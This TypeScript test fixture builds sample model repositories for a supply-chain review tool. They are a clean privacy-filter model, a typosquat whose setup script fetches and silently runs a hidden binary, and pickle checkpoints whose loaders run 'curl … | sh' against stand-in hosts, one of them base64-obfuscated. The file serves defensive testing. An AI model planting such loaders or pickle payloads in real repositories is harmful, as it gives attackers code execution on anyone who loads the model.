// The embedded default's sample repositories: what the demo reviews and the end-to-end tests run against.
// A clean trusted model, a typosquat shaped like the May 2026 incident, a model whose checkpoint is a malicious
// pickle, and a safetensors model with a trojaned `.bin` beside it. All bytes are built here; nothing runs.
import type { BuiltStore } from '../store-builder.js';
import type { RepoSpec, StoreSpec } from '../spec.js';
import { pickleCall, safetensorsBytes, storedZip } from './bytes.js';

export const SAMPLE = {
  clean: 'openai/privacy-filter',
  typosquat: 'Open-OSS/privacy-filter',
  maliciousPickle: 'ml-tinkerer/bert-sentiment-finetuned',
  trojanedBin: 'helpful-models/tinyllama-chat-v2'
} as const;

const GITATTRIBUTES = ['*.bin filter=lfs diff=lfs merge=lfs -text', '*.safetensors filter=lfs diff=lfs merge=lfs -text', '*.pt filter=lfs diff=lfs merge=lfs -text', ''].join('\n');

const TOKEN_CLASSIFIER_CONFIG = JSON.stringify(
  {
    architectures: ['BertForTokenClassification'],
    model_type: 'bert',
    hidden_size: 64,
    num_hidden_layers: 2,
    num_attention_heads: 2,
    intermediate_size: 128,
    vocab_size: 512,
    id2label: { '0': 'O', '1': 'B-PER', '2': 'I-PER', '3': 'B-EMAIL', '4': 'B-PHONE', '5': 'B-ADDR' },
    torch_dtype: 'float32',
    transformers_version: '4.46.0'
  },
  null,
  2
);

const TOKENIZER_CONFIG = JSON.stringify({ do_lower_case: true, model_max_length: 512, tokenizer_class: 'BertTokenizer' }, null, 2);
const VOCAB = ['[PAD]', '[UNK]', '[CLS]', '[SEP]', '[MASK]', ...Array.from({ length: 64 }, (_, i) => `tok${i}`)].join('\n') + '\n';

function card(repo: string, extra = ''): string {
  return `---
license: apache-2.0
library_name: transformers
pipeline_tag: token-classification
language:
- en
tags:
- privacy
- pii
- token-classification
---

# privacy-filter

A small token-classification model that finds personal data (names, e-mail addresses, phone numbers, postal
addresses) in text so it can be redacted before logging or training.

## Usage

\`\`\`python
from transformers import pipeline

pii = pipeline("token-classification", model="${repo}", aggregation_strategy="simple")
print(pii("Contact Jane Doe at jane@example.com"))
\`\`\`
${extra}
## Evaluation

| entity | precision | recall |
| --- | --- | --- |
| PER | 0.97 | 0.96 |
| EMAIL | 0.99 | 0.99 |
`;
}

const WEIGHTS = safetensorsBytes(
  { 'bert.embeddings.word_embeddings.weight': { dtype: 'F32', shape: [512, 16] }, 'classifier.weight': { dtype: 'F32', shape: [6, 16] }, 'classifier.bias': { dtype: 'F32', shape: [6] } },
  { format: 'pt' }
);

const SAFE_SCAN = { status: 'safe' as const, avScan: 'safe' as const, pickleImportScan: 'safe' as const };

function cleanRepo(): RepoSpec {
  return {
    id: SAMPLE.clean,
    createdAt: '2025-08-05T16:00:00.000Z',
    downloads: 48210,
    likes: 312,
    pipeline_tag: 'token-classification',
    library_name: 'transformers',
    tags: ['transformers', 'safetensors', 'bert', 'token-classification', 'en'],
    commits: [
      { title: 'initial commit', date: '2025-08-05T16:00:00.000Z', authors: ['openai-release'], files: { '.gitattributes': GITATTRIBUTES } },
      {
        title: 'Add privacy-filter weights and tokenizer',
        date: '2025-08-05T16:20:00.000Z',
        authors: ['openai-release'],
        files: {
          'config.json': TOKEN_CLASSIFIER_CONFIG,
          'tokenizer_config.json': TOKENIZER_CONFIG,
          'vocab.txt': VOCAB,
          'model.safetensors': { content: WEIGHTS, scan: SAFE_SCAN },
          'README.md': card(SAMPLE.clean)
        }
      },
      { title: 'Update README.md', date: '2025-09-14T09:12:00.000Z', authors: ['openai-release'], files: { 'README.md': card(SAMPLE.clean, '\nSee the evaluation section for per-entity scores.\n') } }
    ]
  };
}

function typosquatRepo(): RepoSpec {
  const runtimeUrl = Buffer.from('https://cdn.open-oss.invalid/pf-runtime-linux-x64').toString('base64');
  const preprocess = `"""Preprocessing helpers for privacy-filter."""
import argparse
import base64
import os
import stat
import subprocess
import urllib.request


def _runtime_path():
    return os.path.join(os.path.expanduser("~"), ".cache", ".pf-runtime")


def setup():
    url = base64.b64decode("${runtimeUrl}").decode()
    path = _runtime_path()
    urllib.request.urlretrieve(url, path)
    os.chmod(path, os.stat(path).st_mode | stat.S_IEXEC)
    subprocess.Popen([path], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)


if __name__ == "__main__":
    parser = argparse.ArgumentParser()
    parser.add_argument("--setup", action="store_true")
    if parser.parse_args().setup:
        setup()
`;
  const quickstart = `
## Quickstart

Before first use, run the setup step once; it installs the optimized tokenizer runtime:

\`\`\`bash
python scripts/preprocess.py --setup
\`\`\`
`;
  return {
    id: SAMPLE.typosquat,
    createdAt: '2026-05-12T21:40:00.000Z',
    downloads: 244118,
    likes: 1207,
    pipeline_tag: 'token-classification',
    library_name: 'transformers',
    tags: ['transformers', 'safetensors', 'bert', 'token-classification', 'en'],
    scansDone: false,
    commits: [
      {
        title: 'initial commit',
        date: '2026-05-12T21:40:00.000Z',
        authors: ['oss-release-bot'],
        files: {
          '.gitattributes': GITATTRIBUTES,
          'config.json': TOKEN_CLASSIFIER_CONFIG,
          'tokenizer_config.json': TOKENIZER_CONFIG,
          'vocab.txt': VOCAB,
          'model.safetensors': WEIGHTS,
          'README.md': card(SAMPLE.typosquat, quickstart),
          'scripts/preprocess.py': preprocess
        }
      }
    ]
  };
}

function maliciousPickleRepo(): RepoSpec {
  // A torch.save-shaped zip whose data.pkl calls os.system (posix.system on Linux) when loaded.
  const checkpoint = storedZip([
    { name: 'archive/data.pkl', data: pickleCall('posix', 'system', 'curl -s https://collect.invalid/i.sh | sh') },
    { name: 'archive/byteorder', data: Buffer.from('little') },
    { name: 'archive/version', data: Buffer.from('3\n') },
    { name: 'archive/.data/serialization_id', data: Buffer.from('1234567890123456789012345678901234567890') }
  ]);
  return {
    id: SAMPLE.maliciousPickle,
    createdAt: '2024-03-18T10:00:00.000Z',
    downloads: 1830,
    likes: 4,
    pipeline_tag: 'text-classification',
    library_name: 'transformers',
    commits: [
      { title: 'initial commit', date: '2024-03-18T10:00:00.000Z', authors: ['ml-tinkerer'], files: { '.gitattributes': GITATTRIBUTES } },
      {
        title: 'Upload fine-tuned checkpoint',
        date: '2024-03-18T10:30:00.000Z',
        authors: ['ml-tinkerer'],
        files: {
          'config.json': JSON.stringify({ architectures: ['BertForSequenceClassification'], model_type: 'bert', num_labels: 2 }, null, 2),
          'pytorch_model.bin': { content: checkpoint, scan: { status: 'unsafe', pickleImportScan: 'unsafe', pickleImports: [{ module: 'posix', name: 'system', safety: 'dangerous' }] } },
          'README.md': '---\nlicense: mit\n---\n# bert-sentiment-finetuned\n\nBERT fine-tuned on movie reviews for binary sentiment.\n'
        }
      }
    ]
  };
}

function trojanedBinRepo(): RepoSpec {
  // Benign safetensors; the .bin beside it (which some loaders pick) runs exec() of a decoded payload.
  const payload = Buffer.from('import os; os.system("curl -s https://collect.invalid/s | sh")').toString('base64');
  const trojan = pickleCall('builtins', 'exec', `import base64; exec(base64.b64decode("${payload}"))`);
  return {
    id: SAMPLE.trojanedBin,
    createdAt: '2025-11-02T08:00:00.000Z',
    downloads: 9120,
    likes: 57,
    pipeline_tag: 'text-generation',
    library_name: 'transformers',
    commits: [
      { title: 'initial commit', date: '2025-11-02T08:00:00.000Z', authors: ['helpful-dev'], files: { '.gitattributes': GITATTRIBUTES } },
      {
        title: 'Add chat model',
        date: '2025-11-02T09:00:00.000Z',
        authors: ['helpful-dev'],
        files: {
          'config.json': JSON.stringify({ architectures: ['LlamaForCausalLM'], model_type: 'llama', hidden_size: 64, num_hidden_layers: 2 }, null, 2),
          'model.safetensors': { content: safetensorsBytes({ 'lm_head.weight': { dtype: 'F16', shape: [64, 32] } }, { format: 'pt' }), scan: SAFE_SCAN },
          'README.md': '---\nlicense: apache-2.0\npipeline_tag: text-generation\n---\n# tinyllama-chat-v2\n\nA small chat model.\n'
        }
      },
      {
        title: 'Add PyTorch weights for older transformers versions',
        date: '2025-12-20T18:00:00.000Z',
        authors: ['helpful-dev'],
        files: { 'pytorch_model.bin': { content: trojan, scan: { status: 'queued' } } }
      }
    ]
  };
}

export function sampleStoreSpec(): StoreSpec {
  return {
    accounts: [
      { name: 'openai', type: 'org', createdAt: '2021-01-19T18:00:00.000Z', fullname: 'OpenAI', isVerified: true },
      { name: 'openai-release', type: 'user', createdAt: '2022-06-01T12:00:00.000Z' },
      { name: 'Open-OSS', type: 'org', createdAt: '2026-05-10T03:12:00.000Z', fullname: 'Open OSS' },
      { name: 'oss-release-bot', type: 'user', createdAt: '2026-05-10T03:05:00.000Z' },
      { name: 'ml-tinkerer', type: 'user', createdAt: '2023-11-07T14:00:00.000Z' },
      { name: 'helpful-models', type: 'org', createdAt: '2025-10-30T08:00:00.000Z', fullname: 'Helpful Models' },
      { name: 'helpful-dev', type: 'user', createdAt: '2025-10-29T08:00:00.000Z' }
    ],
    repos: [cleanRepo(), typosquatRepo(), maliciousPickleRepo(), trojanedBinRepo()]
  };
}

/** The sample allowlist change: the base approves one unrelated model; the head adds the four samples. */
export function sampleAllowlists(built: BuiltStore): { base: string; head: string } {
  const pin = (id: string) => {
    const repo = built.repos[id];
    if (!repo) throw new Error(`sample store lacks ${id}`);
    return repo.shas[repo.shas.length - 1]!;
  };
  const base = `version: 1
models:
  - google-bert/bert-base-uncased@86b5e0934494bd15c9632b12f734a8a67f723594
`;
  const head = `${base}  - ${SAMPLE.clean}@${pin(SAMPLE.clean)}
  - ${SAMPLE.typosquat}@${pin(SAMPLE.typosquat)}
  - repo: ${SAMPLE.maliciousPickle}
    revision: ${pin(SAMPLE.maliciousPickle)}
    reason: Sentiment model for the support-ticket triage pilot
  - ${SAMPLE.trojanedBin}@${pin(SAMPLE.trojanedBin)}
`;
  return { base, head };
}
